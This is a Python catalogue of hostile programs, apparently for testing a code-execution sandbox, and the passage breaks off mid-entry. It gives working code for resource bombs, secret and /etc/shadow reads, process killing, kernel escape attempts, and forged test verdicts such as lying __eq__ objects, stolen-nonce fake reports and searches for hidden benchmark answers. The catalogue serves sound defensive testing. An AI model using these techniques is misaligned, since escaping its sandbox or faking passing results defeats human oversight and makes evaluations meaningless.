"""The catalogue of hostile programs shared by ``sandbox check`` and the test suite.

Every attack is a program plus tests built so that **the tests pass only if the attack worked** (the secret
was read, the connection was made, the forged verdict was accepted). A sandbox contains an attack when:
the result is not ``passed``, no ``ESCAPED`` marker shows up in its output, the host checks of
:mod:`checks` hold (canaries unread and intact, no connection reached the host, the decoy process and the
harness are alive, no file or process carrying the run's marker is left), and the optional follow-up program
(run next on the same executor) still passes.

Placeholders filled per run by :class:`checks.HostContext`: ``@MARKER@`` (unique token: files and processes
the attack leaves carry it), ``@CANARY_ENV@``/``@CANARY_VALUE@`` (an environment variable set in the
harness), ``@CANARY_HOME@``/``@CANARY_TMP@``/``@CANARY_CONTENT@`` (secret files planted in the harness user's
home, mode 0600, and in the host's /tmp, mode 0644), ``@HOST_PORT@`` (a TCP listener on the host's
127.0.0.1), ``@ABSTRACT@`` (an abstract unix socket on the host), ``@PARENT_PID@`` (the harness),
``@DECOY@`` (token of a host process the attack tries to find or kill), ``@HOST_CWD@``, ``@PREFIX_LIB@``
(the interpreter's stdlib dir) and ``@REPO_FILE@`` (a world-readable file of this repository).
"""

from __future__ import annotations

from dataclasses import dataclass

NEVER = "assert f() == 'never'"  # for attacks judged by host checks only: cannot pass legitimately


@dataclass(frozen=True)
class Attack:
    name: str
    category: str  # resources | network | secrets | filesystem | processes | kernel | forgery | pool | judge
    description: str
    program: str
    tests: tuple[str, ...] = (NEVER,)
    setup: str = ""
    entry_point: str | None = None
    expect: tuple[str, ...] | None = None  # allowed statuses (default: anything but passed)
    weak_on: tuple[str, ...] = ()  # backends documented not to stop it (reported, not failed)
    destructive: bool = False  # never run without a sandbox (backend none)
    followup: tuple[str, tuple[str, ...]] | None = None  # (program, tests) that must pass right after
    max_s: float | None = None  # the harness must have judged it within this many seconds


ATTACKS: list[Attack] = [
    # ------------------------------------------------------------------------------------------ resources
    Attack(
        "fork_bomb",
        "resources",
        "os.fork() in an endless loop",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        destructive=True,
        followup=("def f():\n    return 1\n", ("assert f() == 1",)),
    ),
    Attack(
        "fork_bomb_exec",
        "resources",
        "spawn endless `sleep` processes tagged with the marker",
        "import subprocess\nwhile True:\n    try:\n        subprocess.Popen(['@MARKER@', '1000'], executable='sleep')\n"
        "    except OSError:\n        pass\n",
        destructive=True,
    ),
    Attack(
        "memory_bomb",
        "resources",
        "grow one list of 64 MiB blocks forever",
        "x = []\nwhile True:\n    x.append(b'x' * (64 << 20))\n",
        expect=("memory",),
    ),
    Attack(
        "memory_bomb_children",
        "resources",
        "8 children each touching 400 MiB (only a cgroup bounds the sum)",
        "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        try:\n            b = b'x' * (400 << 20)\n"
        "            time.sleep(30)\n        finally:\n            os._exit(0)\ntime.sleep(30)\n",
        destructive=True,
    ),
    Attack("cpu_spin", "resources", "busy loop", "while True:\n    pass\n", expect=("timeout",)),
    Attack(
        "sleep_forever",
        "resources",
        "sleep far beyond the deadline",
        "import time\ntime.sleep(10 ** 6)\n",
        expect=("timeout",),
    ),
    Attack(
        "spin_threads",
        "resources",
        "8 spinning threads",
        "import threading\ndef spin():\n    while True:\n        pass\nfor _ in range(8):\n"
        "    threading.Thread(target=spin, daemon=True).start()\nspin()\n",
        expect=("timeout", "error", "memory"),
    ),  # thread stacks may exhaust RLIMIT_AS first
    Attack(
        "disk_fill",
        "resources",
        "write 2 GiB into the work dir",
        "def f():\n    n = 0\n    try:\n        with open('@MARKER@-fill', 'wb') as fh:\n            while n < (2 << 30):\n"
        "                fh.write(b'x' * (1 << 20))\n                n += 1 << 20\n    except OSError:\n        pass\n    return n\n",
        ("assert f() >= 2 << 30",),
    ),
    Attack(
        "disk_fill_many_files",
        "resources",
        "create files until the tmpfs or inodes run out",
        "def f():\n    n = 0\n    try:\n        while n < 10 ** 6:\n            open('@MARKER@-%d' % n, 'w').write('x' * 4096)\n"
        "            n += 1\n    except OSError:\n        pass\n    return n\n",
        ("assert f() >= 10 ** 6",),
    ),
    Attack(
        "output_flood_stdout",
        "resources",
        "print forever",
        "while True:\n    print('A' * 10000)\n",
        expect=("output-limit",),
    ),
    Attack(
        "output_flood_stderr",
        "resources",
        "write to stderr forever",
        "import os\nwhile True:\n    os.write(2, b'E' * 65536)\n",
        expect=("output-limit",),
    ),
    Attack(
        "output_flood_report_fd",
        "resources",
        "flood the report channel (fd 3)",
        "import os\nwhile True:\n    os.write(3, b'{\"k\":\"t\"}' * 8000 + b'\\n')\n",
    ),
    Attack(
        "huge_recursion",
        "resources",
        "unbounded recursion with the recursion limit removed",
        "import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n=0):\n    return f(n + 1) + 1\n",
        ("assert f() == 1",),
    ),
    # -------------------------------------------------------------------------------------------- network
    Attack(
        "net_host_loopback",
        "network",
        "TCP connect to a listener on the host's 127.0.0.1",
        "import socket\ndef f():\n    s = socket.create_connection(('127.0.0.1', @HOST_PORT@), timeout=1)\n"
        "    s.sendall(b'@MARKER@')\n    print('ESCAPED: connected to host loopback')\n    return 'connected'\n",
        ("assert f() == 'connected'",),
    ),
    Attack(
        "net_internet",
        "network",
        "TCP connect to public addresses",
        "import socket\ndef f():\n    for host in ('1.1.1.1', '8.8.8.8', '151.101.0.223'):\n        try:\n"
        "            socket.create_connection((host, 443), timeout=1)\n            print('ESCAPED: internet')\n"
        "            return 'connected'\n        except OSError:\n            pass\n    return 'blocked'\n",
        ("assert f() == 'connected'",),
    ),
    Attack(
        "net_dns",
        "network",
        "resolve a public name",
        "import socket\ndef f():\n    socket.getaddrinfo('pypi.org', 443)\n    print('ESCAPED: dns')\n    return 'resolved'\n",
        ("assert f() == 'resolved'",),
    ),
    Attack(
        "net_udp_send",
        "network",
        "send UDP datagrams to the host and the internet",
        "import socket\ndef f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(b'@MARKER@', ('127.0.0.1', @HOST_PORT@))\n    s.sendto(b'x', ('8.8.8.8', 53))\n"
        "    return 'sent'\n",
        ("assert f() == 'sent'",),
    ),
    Attack(
        "net_abstract_unix",
        "network",
        "connect to an abstract unix socket of the host",
        "import socket\ndef f():\n    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        "    s.connect('\\0@ABSTRACT@')\n    print('ESCAPED: abstract socket')\n    return 'connected'\n",
        ("assert f() == 'connected'",),
    ),
    Attack(
        "net_raw_netlink",
        "network",
        "open raw / packet / netlink sockets",
        "import socket\ndef f():\n    opened = []\n    for fam, typ, proto in ((socket.AF_INET, socket.SOCK_RAW, 1),"
        " (17, socket.SOCK_RAW, 0), (16, socket.SOCK_RAW, 0)):\n        try:\n            socket.socket(fam, typ, proto)\n"
        "            opened.append(fam)\n        except OSError:\n            pass\n    return len(opened)\n",
        ("assert f() >= 1",),
    ),
    Attack(
        "docker_socket",
        "network",
        "talk to a Docker engine socket",
        "import socket, os\ndef f():\n    for p in ('/var/run/docker.sock', '/run/docker.sock', '/tmp/rbdock/docker.sock'):\n"
        "        try:\n            s = socket.socket(socket.AF_UNIX)\n            s.connect(p)\n"
        "            print('ESCAPED: docker socket')\n            return 'connected'\n        except OSError:\n"
        "            pass\n    return 'no'\n",
        ("assert f() == 'connected'",),
    ),
    # -------------------------------------------------------------------------------------------- secrets
    Attack(
        "read_etc_shadow",
        "secrets",
        "read /etc/shadow",
        "def f():\n    return open('/etc/shadow').read()\n",
        ("assert 'root:' in f()",),
    ),
    Attack(
        "read_env_canary",
        "secrets",
        "read a canary environment variable set in the harness",
        "import os\ndef f():\n    return os.environ.get('@CANARY_ENV@')\n",
        ("assert f() == '@CANARY_VALUE@'",),
    ),
    Attack(
        "read_parent_environ",
        "secrets",
        "read the harness's environment through /proc",
        "def f():\n    return open('/proc/@PARENT_PID@/environ', 'rb').read().decode('latin-1')\n",
        ("assert '@CANARY_VALUE@' in f()",),
    ),
    Attack(
        "scan_all_environ",
        "secrets",
        "scan /proc/*/environ for the canary",
        "import os\ndef f():\n    for p in os.listdir('/proc'):\n        try:\n"
        "            if b'@CANARY_VALUE@' in open('/proc/%s/environ' % p, 'rb').read():\n"
        "                return 'found'\n        except OSError:\n            pass\n    return 'no'\n",
        ("assert f() == 'found'",),
    ),
    Attack(
        "read_home_canary",
        "secrets",
        "read a 0600 canary file in the harness user's home",
        "def f():\n    return open('@CANARY_HOME@').read()\n",
        ("assert f() == '@CANARY_CONTENT@'",),
    ),
    Attack(
        "read_host_tmp_canary",
        "secrets",
        "read a world-readable canary in the host's /tmp",
        "def f():\n    return open('@CANARY_TMP@').read()\n",
        ("assert f() == '@CANARY_CONTENT@'",),
    ),
    Attack(
        "read_repository",
        "secrets",
        "read a world-readable source file of the harness repository",
        "def f():\n    return len(open('@REPO_FILE@').read()) > 0\n",
        ("assert f() is True",),
    ),
    Attack(
        "read_kernel_cmdline",
        "secrets",
        "read the host kernel's command line and the mount sources in /proc",
        "def f():\n    return open('/proc/cmdline').read()\n",
        ("assert len(f()) > 0",),
        weak_on=("docker",),
    ),
    Attack(
        "find_benchmark_data",
        "secrets",
        "walk the whole file system for benchmark files (hidden tests, canonical solutions) to read",
        "import os\ndef f():\n    seen = 0\n    for top, dirs, files in os.walk('/'):\n"
        "        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ('/proc', '/sys', '/usr')]\n"
        "        for name in files:\n            seen += 1\n            low = name.lower()\n"
        "            if ('humaneval' in low or 'mbpp' in low or low.endswith('.jsonl')) and seen < 10 ** 6:\n"
        "                try:\n                    open(os.path.join(top, name), 'rb').read(16)\n"
        "                    return 'found ' + os.path.join(top, name)\n                except OSError:\n"
        "                    pass\n    return 'nothing'\n",
        ("assert f().startswith('found')",),
    ),
    Attack(
        "symlink_to_canary",
        "secrets",
        "reach the home canary through a symlink in the work dir",
        "import os\ndef f():\n    os.symlink('@CANARY_HOME@', 'link-@MARKER@')\n    return open('link-@MARKER@').read()\n",
        ("assert f() == '@CANARY_CONTENT@'",),
    ),
    Attack(
        "proc_find_host_process",
        "processes",
        "look for a host process in /proc",
        "import os\ndef f():\n    for p in os.listdir('/proc'):\n        try:\n"
        "            if b'@DECOY@' in open('/proc/%s/cmdline' % p, 'rb').read():\n                return 'found'\n"
        "        except OSError:\n            pass\n    return 'hidden'\n",
        ("assert f() == 'found'",),
    ),
    Attack(
        "proc_parent_mem",
        "processes",
        "open the harness's memory through /proc",
        "def f():\n    open('/proc/@PARENT_PID@/mem', 'rb').close()\n    return 'opened'\n",
        ("assert f() == 'opened'",),
    ),
    Attack(
        "proc_worker_mem",
        "processes",
        "open the in-sandbox worker's (pid 1) memory and fds",
        "import os\ndef f():\n    opened = 0\n    for path in ('/proc/1/mem', '/proc/1/fd/1', '/proc/1/fd/0'):\n        try:\n"
        "            os.close(os.open(path, os.O_RDWR))\n            opened += 1\n        except OSError:\n            pass\n"
        "    return opened\n",
        ("assert f() > 0",),
    ),
    # ---------------------------------------------------------------------------------------- file system
    Attack(
        "write_host_tmp",
        "filesystem",
        "create files in the host's /tmp, /var/tmp, /dev/shm, /run/lock",
        "def f():\n    for d in ('/tmp', '/var/tmp', '/dev/shm', '/run/lock'):\n        try:\n"
        "            open(d + '/@MARKER@', 'w').write('x')\n        except OSError:\n            pass\n    return 'done'\n",
    ),
    Attack(
        "write_system_dirs",
        "filesystem",
        "create files in /, /etc, /usr, /usr/local, /opt",
        "def f():\n    for d in ('', '/etc', '/usr', '/usr/local', '/opt', '/var'):\n        try:\n"
        "            open(d + '/@MARKER@', 'w').write('x')\n        except OSError:\n            pass\n    return 'done'\n",
    ),
    Attack(
        "write_home_and_repo",
        "filesystem",
        "create files in the harness's home and working directory",
        "import os\ndef f():\n    for d in (os.path.expanduser('~'), '/root', '@HOST_CWD@'):\n        try:\n"
        "            open(d + '/@MARKER@', 'w').write('x')\n        except OSError:\n            pass\n    return 'done'\n",
    ),
    Attack(
        "write_python_prefix",
        "filesystem",
        "plant a module in the interpreter's stdlib (persistence)",
        "def f():\n    open('@PREFIX_LIB@/@MARKER@.py', 'w').write('print(1)')\n    return 'done'\n",
        destructive=True,
    ),
    Attack(
        "tamper_canary",
        "filesystem",
        "overwrite and delete the canary files",
        "import os\ndef f():\n    for p in ('@CANARY_HOME@', '@CANARY_TMP@'):\n        try:\n"
        "            open(p, 'w').write('owned')\n        except OSError:\n            pass\n        try:\n"
        "            os.unlink(p)\n        except OSError:\n            pass\n    return 'done'\n",
    ),
    Attack(
        "chmod_host_devices",
        "filesystem",
        "chmod/utime device nodes shared with the host (same mode: a harmless probe of ownership)",
        "import os\ndef f():\n    n = 0\n    for p in ('/dev/null', '/dev/zero', '/dev/urandom', '/dev/tty'):\n"
        "        try:\n            os.chmod(p, os.stat(p).st_mode & 0o7777)\n            n += 1\n        except OSError:\n"
        "            pass\n    return n\n",
        ("assert f() > 0",),
    ),
    Attack(
        "symlink_write_out",
        "filesystem",
        "write through a symlink pointing at the host's /tmp",
        "import os\ndef f():\n    os.symlink('/tmp/@MARKER@-via-link', 'out')\n    open('out', 'w').write('x')\n"
        "    return 'done'\n",
    ),
    Attack(
        "hardlink_and_rename",
        "filesystem",
        "hard-link or rename a host file into reach",
        "import os\ndef f():\n    for src in ('/etc/passwd', '@CANARY_TMP@'):\n        try:\n"
        "            os.link(src, 'hl-@MARKER@')\n            return 'linked'\n        except OSError:\n            pass\n"
        "    return 'no'\n",
        ("assert f() == 'linked'",),
    ),
    # ------------------------------------------------------------------------------------------- processes
    Attack(
        "setsid_daemon",
        "processes",
        "setsid + exec a long sleep, then return",
        "import os\ndef f():\n    if os.fork() == 0:\n        os.setsid()\n        os.execvp('sleep', ['@MARKER@', '1000'])\n"
        "    return 'started'\n",
        ("assert f() == 'never'",),
    ),
    Attack(
        "double_fork_daemon",
        "processes",
        "classic double-fork daemon that closes every fd",
        "import os, time\ndef f():\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
        "            os.closerange(0, 64)\n            open('/proc/self/comm', 'w').write('@MARKER@')\n"
        "            time.sleep(1000)\n        os._exit(0)\n    return 'started'\n",
        ("assert f() == 'never'",),
    ),
    Attack(
        "daemon_holding_pipes",
        "processes",
        "daemon that keeps stdout and the report pipe open",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    open('/proc/self/comm', 'w').write('@MARKER@')\n"
        "    time.sleep(1000)\ndef f():\n    return 'started'\n",
        ("assert f() == 'never'",),
    ),
    Attack(
        "kill_parent",
        "processes",
        "SIGKILL the harness and every visible process",
        "import os, signal\ndef f():\n    for target in (@PARENT_PID@, -1):\n        try:\n"
        "            os.kill(target, signal.SIGKILL)\n        except OSError:\n            pass\n    return 'done'\n",
        destructive=True,
    ),
    Attack(
        "kill_decoy",
        "processes",
        "find the host decoy process by name and kill it",
        "import os, signal\ndef f():\n    for p in os.listdir('/proc'):\n        try:\n"
        "            if b'@DECOY@' in open('/proc/%s/cmdline' % p, 'rb').read():\n"
        "                os.kill(int(p), signal.SIGKILL)\n                return 'killed'\n        except (OSError, ValueError):\n"
        "            pass\n    return 'not found'\n",
        ("assert f() == 'killed'",),
    ),
    Attack(
        "signal_worker",
        "pool",
        "signal the in-sandbox worker (pid 1): TERM, INT, STOP, KILL",
        "import os, signal\ndef f():\n    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):\n"
        "        try:\n            os.kill(1, sig)\n        except OSError:\n            pass\n    return 'done'\n",
        destructive=True,
        followup=("def f():\n    return 1\n", ("assert f() == 1",)),
    ),
    Attack(
        "plant_for_next_program",
        "pool",
        "leave files and a saboteur process for the next program",
        "import os, time\nfor d in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n    try:\n"
        "        open(d + '/planted-@MARKER@', 'w').write('x')\n    except OSError:\n        pass\n"
        "if os.fork() == 0:\n    os.setsid()\n    os.closerange(0, 64)\n    open('/proc/self/comm', 'w').write('@MARKER@')\n"
        "    end = time.time() + 5\n    while time.time() < end:\n        try:\n            os.kill(-1, 9)\n"
        "        except OSError:\n            pass\n        time.sleep(0.01)\n    os._exit(0)\n",
        followup=(
            "import os\ndef f():\n    for d in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
            "        if os.path.exists(d + '/planted-@MARKER@'):\n            return 'planted file visible'\n"
            "    return 'clean'\n",
            ("assert f() == 'clean'",),
        ),
        destructive=True,
    ),
    Attack(
        "leaked_fds",
        "processes",
        "look for inherited descriptors beyond stdin/stdout/stderr/report",
        "import os\ndef f():\n    return [int(x) for x in os.listdir('/proc/self/fd') if int(x) > 3]\n",
        ("assert len(f()) > 1",),
    ),
    # ---------------------------------------------------------------------------------------------- kernel
    Attack(
        "ptrace_attach",
        "kernel",
        "PTRACE_ATTACH to pid 1 and to the parent",
        "import ctypes, os\ndef f():\n    libc = ctypes.CDLL(None, use_errno=True)\n    ok = 0\n"
        "    for pid in (1, os.getppid(), @PARENT_PID@):\n        if libc.ptrace(16, pid, 0, 0) == 0:\n            ok += 1\n"
        "    return ok\n",
        ("assert f() > 0",),
        destructive=True,
    ),
    Attack(
        "new_user_namespace",
        "kernel",
        "unshare(CLONE_NEWUSER|CLONE_NEWNS) to regain capabilities",
        "import ctypes\ndef f():\n    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    return libc.unshare(0x10000000 | 0x00020000)\n",
        ("assert f() == 0",),
    ),
    Attack(
        "mount_tmpfs",
        "kernel",
        "mount a tmpfs over /usr",
        "import ctypes\ndef f():\n    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    return libc.mount(b'none', b'/usr', b'tmpfs', 0, None)\n",
        ("assert f() == 0",),
    ),
    Attack(
        "setuid_root",
        "kernel",
        "become root with setuid(0) / setresuid",
        "import os\ndef f():\n    try:\n        os.setuid(0)\n    except OSError:\n        pass\n    return os.getuid()\n",
        ("assert f() == 0",),
    ),
    Attack(
        "chroot_escape",
        "kernel",
        "chroot('..') style escape",
        "import ctypes\ndef f():\n    libc = ctypes.CDLL(None, use_errno=True)\n    return libc.chroot(b'/tmp')\n",
        ("assert f() == 0",),
    ),
    Attack(
        "bpf_and_keyring",
        "kernel",
        "bpf(), perf_event_open(), keyctl() and io_uring_setup() syscalls",
        "import ctypes\ndef f():\n    libc = ctypes.CDLL(None, use_errno=True)\n    ok = 0\n"
        "    for nr, args in ((321, (0, 0, 0)), (298, (0, 0, -1, -1, 0)), (250, (0, -3, 0)), (425, (1, 0))):\n"
        "        if libc.syscall(nr, *args) >= 0:\n            ok += 1\n    return ok\n",
        ("assert f() > 0",),
    ),
    Attack(
        "cgroup_escape",
        "kernel",
        "move itself into the root cgroup",
        "import os\ndef f():\n    n = 0\n    for p in ('/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/cgroup.procs',"
        " '/sys/fs/cgroup/memory/cgroup.procs'):\n        try:\n            open(p, 'w').write(str(os.getpid()))\n"
        "            n += 1\n        except OSError:\n            pass\n    return n\n",
        ("assert f() > 0",),
    ),
    # --------------------------------------------------------------------------------------------- forgery
    Attack(
        "sys_exit_before_tests",
        "forgery",
        "sys.exit(0) before any test runs",
        "import sys\ndef add(a, b):\n    return 0\nsys.exit(0)\n",
        ("assert add(1, 2) == 3", "assert add(2, 2) == 4"),
    ),
    Attack(
        "os_exit_before_tests",
        "forgery",
        "os._exit(0) before any test runs",
        "import os\ndef add(a, b):\n    return 0\nos._exit(0)\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "exit_inside_test",
        "forgery",
        "the function itself calls os._exit(0)",
        "import os\ndef add(a, b):\n    os._exit(0)\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "raise_systemexit",
        "forgery",
        "raise SystemExit(0) from inside the function",
        "def add(a, b):\n    raise SystemExit(0)\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "raise_keyboardinterrupt",
        "forgery",
        "raise KeyboardInterrupt from inside the function",
        "def add(a, b):\n    raise KeyboardInterrupt\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "replace_assertionerror",
        "forgery",
        "replace AssertionError and builtins used by tests",
        "import builtins\nclass Nope(BaseException):\n    pass\nbuiltins.AssertionError = Nope\n"
        "builtins.sorted = lambda *a, **k: [1, 2, 3]\nbuiltins.len = lambda x: 3\nbuiltins.set = lambda *a: {1, 2, 3}\n"
        "def f(x):\n    return 'wrong'\n",
        (
            "assert sorted(f([3, 1, 2])) == [1, 2, 3]",
            "assert len(f('abc')) == 3",
            "assert set(f([1, 2, 3])) == set([1, 2, 3])",
        ),
    ),
    Attack(
        "replace_sys_modules",
        "forgery",
        "swap math in sys.modules for a fake isclose",
        "import sys, types\nfake = types.ModuleType('math')\nfake.isclose = lambda *a, **k: True\n"
        "sys.modules['math'] = fake\nimport math\nmath.isclose = lambda *a, **k: True\ndef area(r):\n    return -1.0\n",
        ("assert math.isclose(area(2), 12.566, rel_tol=0.001)",),
    ),
    Attack(
        "shadow_module_name",
        "forgery",
        "define a global named math with an always-true isclose",
        "class math:\n    isclose = staticmethod(lambda *a, **k: True)\ndef area(r):\n    return -1.0\n",
        ("assert math.isclose(area(2), 12.566, rel_tol=0.001)",),
    ),
    Attack(
        "always_equal_object",
        "forgery",
        "return an object whose __eq__ always says True",
        "class Any:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
        "def add(a, b):\n    return Any()\n",
        ("assert add(1, 2) == 3", "assert add(2, 5) == 7"),
    ),
    Attack(
        "builtin_subclass_eq",
        "forgery",
        "return int/str/list subclasses with a lying __eq__",
        "class I(int):\n    def __eq__(self, o):\n        return True\nclass S(str):\n    def __eq__(self, o):\n        return True\n"
        "class L(list):\n    def __eq__(self, o):\n        return True\ndef f(k):\n    return [I(0), S(''), L()][k]\n",
        ("assert f(0) == 42", "assert f(1) == 'hello'", "assert f(2) == [1, 2]"),
    ),
    Attack(
        "nested_liar",
        "forgery",
        "hide a lying object inside a tuple",
        "class Any:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\n"
        "def f():\n    return (1, Any())\n",
        ("assert f() == (1, 2)",),
    ),
    Attack(
        "fake_success_markers",
        "forgery",
        "print success markers and exit 0",
        "import sys\nprint('All tests passed')\nprint('PASSED')\nprint('{\"k\":\"end\"}')\n"
        "sys.stderr.write('OK\\n')\ndef add(a, b):\n    return 0\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "forge_report_no_nonce",
        "forgery",
        "write a complete fake report to fd 3, then os._exit(0)",
        'import os\nos.write(3, b\'{"k":"load"}\\n{"k":"t","i":0,"ok":1}\\n{"k":"t","i":0,"v":[["i","3"]]}\\n{"k":"end"}\\n\')\n'
        "os._exit(0)\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "forge_report_stolen_nonce",
        "forgery",
        "steal the nonce from the runner's memory and claim 'ok' for a split unit",
        "import gc, os\nnonce = None\nfor o in gc.get_objects():\n    if isinstance(o, dict) and 'nonce' in o and isinstance(o.get('nonce'), str):\n"
        '        nonce = o[\'nonce\']\n        break\nif nonce:\n    for line in (\'{"k":"load","n":"%s"}\', \'{"k":"t","i":0,"ok":1,"n":"%s"}\','
        ' \'{"k":"end","n":"%s"}\'):\n        os.write(3, (line % nonce + \'\\n\').encode())\n    os._exit(0)\n'
        "def add(a, b):\n    return 0\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "forge_general_unit_via_reporter",
        "forgery",
        "for a general (non-split) test, call the runner's own reporter found through gc",
        "import gc, os\nfor o in gc.get_objects():\n    if callable(o) and getattr(o, '__name__', '') == 'report'"
        " and getattr(o, '__closure__', None):\n        o({'k': 'load'})\n        o({'k': 't', 'i': 0, 'ok': 1})\n"
        "        o({'k': 'end'})\n        os._exit(0)\ndef add(a, b):\n    return 0\n",
        ("for a, b in [(1, 2), (3, 4)]:\n    assert add(a, b) == a + b",),
    ),
    Attack(
        "read_expected_values",
        "forgery",
        "search memory, stdin and files for the expected value",
        "import gc, os, sys\ndef f(x):\n    for o in gc.get_objects():\n        if isinstance(o, (dict, list)):\n"
        "            for v in (o.values() if isinstance(o, dict) else o):\n                if isinstance(v, str) and '==' in v:\n"
        "                    return eval(v.split('==', 1)[1])\n    try:\n        data = os.read(0, 1 << 20)\n        if b'==' in data:\n"
        "            return eval(data.split(b'==', 1)[1].split(b'\"')[0])\n    except OSError:\n        pass\n    return None\n",
        ("assert f(2) == 31337",),
    ),
    Attack(
        "kill_runner",
        "forgery",
        "SIGKILL its own process in the middle of the tests",
        "import os, signal\ndef add(a, b):\n    if a == 2:\n        os.kill(os.getpid(), signal.SIGKILL)\n    return a + b\n",
        ("assert add(1, 2) == 3", "assert add(2, 2) == 5"),
    ),
    Attack(
        "close_report_channel",
        "forgery",
        "close fd 3 and keep running",
        "import os\nos.close(3)\ndef add(a, b):\n    return 0\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "patch_encoder",
        "forgery",
        "patch the runner's value encoder to claim a fixed value",
        "import sys\nfor m in list(sys.modules.values()):\n    if hasattr(m, 'encode') and hasattr(m, 'CodecError'):\n"
        "        m.encode = lambda v, _d=0: ['i', '7']\ndef add(a, b):\n    return 0\n",
        ("assert add(1, 2) == 3",),
    ),
    Attack(
        "humaneval_check_override",
        "forgery",
        "HumanEval: redefine check() and candidate to pass trivially",
        "def check(candidate):\n    pass\ncandidate = lambda *a: 0\ndef add(a, b):\n    return 0\n",
        ("def check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(0, 0) == 0\n",),
        entry_point="add",
    ),
    Attack(
        "settrace_rewrite",
        "forgery",
        "install a trace/profile hook that rewrites return values",
        "import sys\ndef add(a, b):\n    return 0\ndef hook(frame, event, arg):\n    if event == 'return':\n"
        "        frame.f_locals['__rb'] = 3\n    return hook\nsys.settrace(hook)\nsys.setprofile(hook)\n",
        ("assert add(1, 2) == 3",),
    ),
]


# ------------------------------------------------------------------ state between pool programs
# Each of these runs, then a follow-up program on the same single worker (fresh mode: a new sandbox) that
# must pass: it fails if the attack left anything the next program can see, or broke the worker for it.

_MEMSCAN = '''
import gc, os
def _scan(needle, before):
    """Occurrences of needle preceded by `before` in this process's memory (objects and raw mappings)."""
    for o in gc.get_objects():
        try:
            for v in (o.values() if isinstance(o, dict) else o if isinstance(o, (list, tuple)) else ()):
                if isinstance(v, (str, bytes)) and needle in (v.encode('latin-1', 'replace') if isinstance(v, str) else v):
                    text = v.encode('latin-1', 'replace') if isinstance(v, str) else v
                    i = text.find(needle)
                    if text[max(0, i - len(before)):i] == before:
                        return 'object'
        except Exception:
            pass
    import ctypes
    found = None
    with open('/proc/self/maps') as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        lo, hi = (int(x, 16) for x in fields[0].split('-'))
        name = fields[5] if len(fields) > 5 else ''
        if fields[1][0] != 'r' or hi - lo > (512 << 20) or name not in ('', '[heap]', '[stack]'):  # anonymous only
            continue
        data = ctypes.string_at(lo, hi - lo)
        i = data.find(needle)
        while i >= 0:
            if data[max(0, i - len(before)):i] == before:
                return 'memory'
            i = data.find(needle, i + 1)
    return found
'''

POOL_STATE_ATTACKS: list[Attack] = [
    Attack(
        "earlier_job_in_memory",
        "pool",
        "the next program scans its own memory (objects and raw heap) for the attack's source, its expected "
        "value and a value only the judge saw",
        "def f():\n    return 'PLANTED' + ':@MARKER@:SRC'[:0] + 'x'\nKEEP = 'PLANTED:@MARKER@:SRC'\n",
        ("assert f() == 'PLANTED:@MARKER@:EXP'", "assert f() == 'PLANTED:@MARKER@:JDG'.lower()"),
        followup=(
            _MEMSCAN + "def f():\n    hits = [_scan(b'@MARKER@:' + k, b'PLANTED:') for k in (b'SRC', b'EXP', b'JDG')]\n"
            "    return 'clean' if not any(hits) else 'found %r' % hits\n",
            ("assert f() == 'clean'",),
        ),
    ),
    Attack(
        "replay_earlier_program",
        "pool",
        "a program that solves nothing looks for an earlier program's source in memory and runs it",
        "def add(a, b):\n    return a + b  # REPLAY-@MARKER@\n",
        ("assert add(1, 2) == 3 and False",),
        followup=(
            _MEMSCAN + "import ctypes\ndef add(a, b):\n    tag = b'REPLAY-' + b'@MARKER@'\n"
            "    with open('/proc/self/maps') as maps:\n        regions = [l.split() for l in maps]\n"
            "    for fields in regions:\n        lo, hi = (int(x, 16) for x in fields[0].split('-'))\n"
            "        if fields[1][0] != 'r' or hi - lo > (512 << 20) or (fields[5:] or [''])[0] not in ('', '[heap]', '[stack]'):\n"
            "            continue\n        data = ctypes.string_at(lo, hi - lo)\n        i = data.find(tag)\n"
            "        while i >= 0:\n            start = data.rfind(b'def add(a, b):', max(0, i - 200), i)\n"
            "            if start >= 0:\n                g = {}\n                try:\n"
            "                    exec(data[start:i].decode() + '\\n', g)\n                    return g['add'](a, b)\n"
            "                except Exception:\n                    pass\n            i = data.find(tag, i + 1)\n"
            "    return None\n",
            ("assert add(2, 3) is None",),
        ),
    ),
    Attack(
        "plant_in_dev_and_ipc",
        "pool",
        "leave files in /dev and /dev/shm, a POSIX message queue, a System V queue, and an xattr and an "
        "mtime on the work dir's parent (the tmpfs root) for the next program",
        "import os, ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nfor d in ('/dev', '/dev/shm', '/dev/mqueue'):\n"
        "    try:\n        open(d + '/planted-@MARKER@', 'w').write('x')\n    except OSError:\n        pass\n"
        "try:\n    libc.mq_open(b'/planted-@MARKER@', 0o100 | 2, 0o666, None)\nexcept Exception:\n    pass\n"
        "libc.syscall(68, 0x4242, 0o1666)\n"
        "try:\n    os.setxattr('..', 'user.planted', b'@MARKER@')\nexcept OSError:\n    pass\n"
        "os.utime('..', (4242, 4242))\n",
        followup=(
